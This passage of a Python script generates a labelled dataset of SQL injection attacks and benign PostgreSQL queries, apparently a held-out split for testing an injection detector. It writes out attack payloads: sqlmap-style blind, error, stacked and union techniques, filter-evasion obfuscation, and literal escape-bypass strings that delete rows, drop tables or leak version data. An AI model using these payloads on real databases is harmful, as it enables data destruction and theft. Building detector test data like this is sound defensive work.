        return " AND " + "(" * d + "'%s'='%s" % (w, w) if rng.random() < 0.5 else " OR " + "(" * d + "'%s'='%s" % (w, rword(rng, 4))
    return ""

def sqlmap_wrap(rng, ctx, depth, orig, kind, P):
    """Return payload string for a technique clause kind."""
    neg = "w2" in kind
    if ctx == "str":
        o = ("-" + rnum(rng)) if neg and rng.random() < 0.5 else orig
        if kind == "r":
            return "'||" + P + "||'" if rng.random() < 0.6 else o + "'||" + P + rng.choice(["||'", "-- ", "--"])
        pre, d = close(rng, ctx, depth)
        if kind == "o":
            return o + pre + P + tail(rng)
        body = o + pre + ("" if kind.startswith("s") else " ") + P
        if "c" in kind or kind == "s" and rng.random() < 0.5:
            return body + (" " if rng.random() < 0.3 else "") + tail(rng)
        return body + (balance(rng, ctx, d) if rng.random() < 0.6 else tail(rng))
    if ctx == "num":
        o = ("-" + rnum(rng)) if neg else orig
        if kind == "r":
            return P
        pre = ")" * depth if depth and rng.random() < 0.4 else ""
        if kind == "o":
            return o + P + ("" if rng.random() < 0.5 else tail(rng))
        body = o + pre + ("" if kind.startswith("s") else " ") + P
        if "c" in kind or pre:
            return body + tail(rng)
        return body + ("" if rng.random() < 0.6 else tail(rng))
    if ctx == "ord":
        if kind == "r":
            return P
        if kind == "o":
            return orig + P
        return orig + ("" if kind.startswith("s") else " ") + P + ("" if rng.random() < 0.5 else tail(rng))
    if ctx == "qi":
        if kind.startswith("s"):
            return orig + '"' + P + tail(rng)
        return orig + '" WHERE ' + rnum(rng) + "=" + rnum(rng) + " " + P + tail(rng)
    if ctx == "ident":
        if kind.startswith("s"):
            return orig + P + ("" if rng.random() < 0.5 else tail(rng))
        return orig + " " + P + tail(rng)
    return None

def hand_wrap(rng, ctx, depth, orig, mode, core):
    if mode == "concat":
        if ctx != "str":
            return None
        return orig + "' || " + core + " || '"
    if mode == "value":
        if ctx == "str":
            return "'||" + core + "||'"
        return core
    if ctx == "str":
        pre, d = close(rng, ctx, depth)
        pre = orig + pre
    elif ctx == "num":
        pre, d = orig + (")" * depth if depth and rng.random() < 0.3 else ""), depth
    elif ctx == "qi":
        pre, d = orig + '"' + (" WHERE true" if mode == "cond" else ""), 0
    else:
        pre, d = orig, 0
    if mode == "cond":
        if ctx == "ord":
            body = orig + ", (CASE WHEN (" + re.sub(r"^(AND|OR)\s+", "", core) + ") THEN 1 ELSE 0 END)"
            return body + ("" if rng.random() < 0.5 else tail(rng))
        body = pre + " " + core
        if ctx == "str" and rng.random() < 0.5:
            return body + balance(rng, ctx, d)
        return body + ("" if ctx == "num" and rng.random() < 0.5 else tail(rng))
    if mode == "stack":
        body = pre + rng.choice(["; ", ";", "; ", ";\n"]) + core
        if ctx == "str" and rng.random() < 0.25:
            return body + "; SELECT '" + rword(rng, 3)
        return body + rng.choice([";", "", " "]) + tail(rng) if rng.random() < 0.8 else body
    if mode == "union":
        return pre + " " + core + tail(rng)
    return None

def words_outside_quotes(s, fn):
    # apply fn to chunks outside '...' / $..$ / "..." (simple)
    out, i, n = [], 0, len(s)
    buf = []
    while i < n:
        c = s[i]
        if c in "'\"":
            j = s.find(c, i + 1)
            j = n if j < 0 else j + 1
            out.append(fn("".join(buf))); buf = []
            out.append(s[i:j]); i = j
            continue
        buf.append(c); i += 1
    out.append(fn("".join(buf)))
    return "".join(out)

def obf(rng, kind, payload):
    if kind == "obf_case_mix":
        return words_outside_quotes(payload, lambda t: re.sub(r"[A-Za-z_]+", lambda m: "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in m.group(0)), t))
    if kind == "obf_inline_comment":
        return words_outside_quotes(payload, lambda t: re.sub(r" +", lambda m: rng.choice(["/**/", "/*%s*/" % rword(rng, 3), "/*!*/", "/* */", "/**/ "]), t))
    if kind == "obf_nospace":
        def ns(t):
            t = re.sub(r" *([=<>(),;|+*]) *", r"\1", t)
            return re.sub(r" +", lambda m: rng.choice(["\t", "(", "\n"]) if False else " ", t)
        return words_outside_quotes(payload, ns).replace("' OR", "'OR").replace("' AND", "'AND").replace("' UNION", "'UNION")
    if kind == "obf_whitespace":
        return words_outside_quotes(payload, lambda t: re.sub(r" +", lambda m: rng.choice(["\t", "\n", "\r\n", "\f", "  \t", "\u00a0", "\u000b", "\n\n  "]), t))
    return payload

def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    # Keep clear of the corpora that existed when this one was made (exact
    # sql text only): dev (as copied here) and the earlier held-out ones.
    dev = set()
    for name in ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh"):
        with gzip.open(os.path.join(here, name + ".jsonl.gz"), "rt", encoding="utf-8") as fh:
            for line in fh:
                dev.add(json.loads(line)["sql"])
    rows, seen = [], set()

    def emit(sql, label, family, template, inp, inputs, variant, dbms="PostgreSQL"):
        if sql in seen or sql in dev:
            return False
        seen.add(sql)
        rows.append({"sql": sql, "label": label, "family": family, "template": template, "input": inp, "inputs": inputs,
                     "variant": variant, "dbms": dbms, "multi_statement": statement_count(sql) > 1})
        return True

    def defaults(tpl):
        return {k: rng.choice(v[2]) for k, v in tpl[2].items()}

    def try_attack(tpl, slot, payload, family, variant, dbms="PostgreSQL", fillfn=None):
        f = defaults(tpl)
        f[slot] = payload
        if fillfn:
            sql = fillfn(tpl, f, slot)
        else:
            sql = render(tpl, f, raw_slot=slot)
        if skeleton(sql) in ref_skeletons(tpl):
            return False
        inputs = [f[k] for k in tpl[2]]
        return emit(sql, "attack", family, tpl[0], payload, inputs, variant, dbms)

    attack_payloads = []  # for escaped rows
    # --- sqlmap families
    for fam in ["sqlmap_time_blind", "sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query", "sqlmap_union_query"]:
        got, tries = 0, 0
        while got < ATTACK_TARGET[fam] and tries < 20000:
            tries += 1
            tpl = rng.choice(T); slot = rng.choice(list(tpl[2])); typ, depth, defs = tpl[2][slot]
            ctx = CTX[typ]
            if typ == "e":
                continue
            orig = rng.choice(defs)
            vector = rng.random() < 0.3
            if fam == "sqlmap_union_query":
                dbms = rng.choice(["PostgreSQL", "PostgreSQL", "generic", "MySQL"])
                title, P = union_payload(rng, dbms)
                kind = "wc"
                vector = False
            else:
                cands = [t for t in techniques(rng, vector) if t[2] == fam]
                title, dbms, _, kind, P = rng.choice(cands)
            P = P.replace("%ORIG%", orig if ctx != "str" else "'" + orig + "'")
            pl = sqlmap_wrap(rng, ctx, depth, orig, kind, P)
            if pl is None:
                continue
            if try_attack(tpl, slot, pl, fam, "sqlmap:%s:%s" % (title, "vector" if vector else "payload"), dbms):
                got += 1
                attack_payloads.append((pl, "sqlmap:%s" % title))
    # --- hand-written families
    hand_fams = ["tautology", "stacked", "oob_file_program", "time_pg_sleep", "boolean_blind", "error_cast", "dollar_quote",
                 "e_escape", "plpgsql_do_exec", "union", "string_concat_subquery"]
    for fam in hand_fams:
        got, tries = 0, 0
        while got < ATTACK_TARGET[fam] and tries < 20000:
            tries += 1
            tpl = rng.choice(T); slot = rng.choice(list(tpl[2])); typ, depth, defs = tpl[2][slot]
            if typ == "e":
                continue
            name, mode, core = rng.choice(hand_cores(rng)[fam])
            pl = hand_wrap(rng, CTX[typ], depth, rng.choice(defs), mode, core)
            if pl is None:
                continue
            if try_attack(tpl, slot, pl, fam, "%s:%s" % (fam, name)):
                got += 1
                attack_payloads.append((pl, "%s:%s" % (fam, name)))
    # --- obfuscated variants of hand-written cores
    for fam in ["obf_whitespace", "obf_case_mix", "obf_nospace", "obf_inline_comment"]:
        got, tries = 0, 0
        while got < ATTACK_TARGET[fam] and tries < 20000:
            tries += 1
            tpl = rng.choice(T); slot = rng.choice(list(tpl[2])); typ, depth, defs = tpl[2][slot]
            if typ == "e":
                continue
            base = rng.choice(["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast"])
            name, mode, core = rng.choice(hand_cores(rng)[base])
            pl = hand_wrap(rng, CTX[typ], depth, rng.choice(defs), mode, core)
            if pl is None:
                continue
            pl2 = obf(rng, fam, pl)
            if pl2 == pl:
                continue
            if try_attack(tpl, slot, pl2, fam, "%s:%s:%s" % (fam, base, name)):
                got += 1
    # --- comment truncation
    got, tries = 0, 0
    while got < ATTACK_TARGET["comment_truncation"] and tries < 20000:
        tries += 1
        tpl = rng.choice(T); slot = rng.choice(list(tpl[2])); typ, depth, defs = tpl[2][slot]
        ctx = CTX[typ]
        if typ == "e":
            continue
        orig = rng.choice(defs + ["admin", "root", "superuser", ""]) if ctx == "str" else rng.choice(defs)
        if ctx == "str":
            pre, _ = close(rng, ctx, depth, right=0.6)
        elif ctx == "qi":
            pre = '"'
        else:
            pre = ")" * depth if depth and rng.random() < 0.5 else ""
        t = tail(rng)
        pl = orig + pre + rng.choice(["", " ", ";"]) + t
        if try_attack(tpl, slot, pl, "comment_truncation", "comment_truncation:%s" % re.sub(r"[a-z]{3,}", "w", t).strip() or "tail"):
            got += 1
    # --- escape bypass via backslash in E'' (app doubles quotes only)
    def fill_dq_only(tpl, f, slot):
        name, sql, slots = tpl
        vals = {k: (f[k].replace("'", "''") if k == slot else esc(slots[k][0], f[k])) for k in slots}
        return sql.format(**vals)
    ebt = [t for t in T if any(v[0] == "e" for v in t[2].values())]
    bypass = ["\\' OR 2>1--", "\\'); DELETE FROM charity_pledges;--", "\\' || (SELECT current_user))--", "x\\', 0, E\\'\\'); DROP TABLE hr_people--",
              "\\' OR pg_sleep(7) IS NULL)--", "\\'::text||version())-- q"]
    got = 0
    for p in bypass:
        if got >= ATTACK_TARGET["escape_bypass_backslash"]:
            break
        tpl = ebt[0]; slot = [k for k, v in tpl[2].items() if v[0] == "e"][0]
        if try_attack(tpl, slot, p, "escape_bypass_backslash", "escape_bypass_backslash:e_string_quote_doubling", fillfn=fill_dq_only):
            got += 1
    # ---------------- benign
    strslots = [(t, k) for t in T for k, v in t[2].items() if v[0] in ("q", "e", "qi")]
    numslots = [(t, k) for t in T for k, v in t[2].items() if v[0] in ("n", "list")]
    idslots = [(t, k) for t in T for k, v in t[2].items() if v[0] in ("id", "dir", "ident")]

    def benign_row(tpl, slot, val, fam, variant):
        f = defaults(tpl); f[slot] = val
        sql = render(tpl, f)
        if skeleton(sql) not in ref_skeletons(tpl):
            return False
        return emit(sql, "benign", fam, tpl[0], val, [f[k] for k in tpl[2]], variant)

    for fam, target in INPUT_TARGET.items():
        got, tries = 0, 0
        while got < target and tries < 20000:
            tries += 1
            if fam == "input_numeric":
                tpl, slot = rng.choice(numslots)
                if tpl[2][slot][0] == "list":
                    val = ", ".join(str(rng.randint(1, 99999)) for _ in range(rng.randint(1, 6)))
                else:
                    val = rng.choice([str(rng.randint(0, 99999)), "%d.%02d" % (rng.randint(0, 9999), rng.randint(0, 99)), str(rng.randint(1, 500)), "-%d" % rng.randint(1, 999), "%.1f" % rng.uniform(-60, 60)])
            elif fam == "input_identifier":
                tpl, slot = rng.choice(idslots)
                typ = tpl[2][slot][0]
                val = rng.choice(IDENTS[typ])
            else:
                tpl, slot = rng.choice(strslots)
                if fam == "input_long_text":
                    val = " ".join(rng.sample(SENTS, rng.randint(2, 5)))
                elif fam == "input_formatted" and rng.random() < 0.5:
                    val = rng.choice([rdate(rng), "%s-%04d" % (rword(rng, 3).upper(), rng.randint(0, 9999)), "%08x-%04x" % (rng.getrandbits(32), rng.getrandbits(16)),
                                      "%d:%02d" % (rng.randint(0, 23), rng.randint(0, 59)), "+44 7%03d %06d" % (rng.randint(0, 999), rng.randint(0, 999999)),
                                      "%032x" % rng.getrandbits(128)])
                elif fam == "input_plain" and rng.random() < 0.6:
                    val = rng.choice(POOLS["input_plain"]).split()[0] + " " + rng.choice(POOLS["input_plain"]).split()[-1]
                else:
                    val = rng.choice(POOLS[fam])
                if tpl[2][slot][0] == "qi" and fam not in ("input_plain", "input_formatted", "input_unicode", "input_apostrophe_names", "input_sql_words"):
                    continue
            if benign_row(tpl, slot, val, fam, "benign:" + fam[6:]):
                got += 1
    # escaped attack strings
    got, tries = 0, 0
    while got < ESCAPED_TARGET and tries < 20000:
        tries += 1
        pl, var = rng.choice(attack_payloads)
        tpl, slot = rng.choice([x for x in strslots if x[0][2][x[1]][0] in ("q", "e")])
        if benign_row(tpl, slot, pl, "escaped_attack_string", "escaped:" + var):
            got += 1
    # complex
    G = complex_gens()
    for fam, target in COMPLEX_TARGET.items():
        gens = [g for g in G if g[1] == fam]
        got, tries = 0, 0
        while got < target and tries < 5000:
            tries += 1
            name, _, fn = rng.choice(gens)
            if emit(fn(rng), "benign", fam, name, None, [], "complex:" + name[4:]):
                got += 1
    # regress
    reg = regress_rows(rng)
    rng.shuffle(reg)
    got = 0
    for tname, s in reg:
        if got >= REGRESS_TARGET:
            break
        if emit(s, "benign", "pg_regress", tname, None, [], tname):
            got += 1

    rng.shuffle(rows)
    out = []
    for i, r in enumerate(rows):
        d = {"id": "e8-%06d" % i}
        d.update(r)
        d["split"] = "eighth"
        out.append(d)
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
        for d in out:
            gz.write((json.dumps(d, ensure_ascii=False) + "\n").encode("utf-8"))
    with open(os.path.join(here, "eighth.jsonl.gz"), "wb") as fh:
        fh.write(buf.getvalue())
    from collections import Counter
    c = Counter((d["label"], d["family"]) for d in out)
    print("rows", len(out), Counter(d["label"] for d in out))
    for k in sorted(c):
        print(k[0], k[1], c[k])

if __name__ == "__main__":
    main()
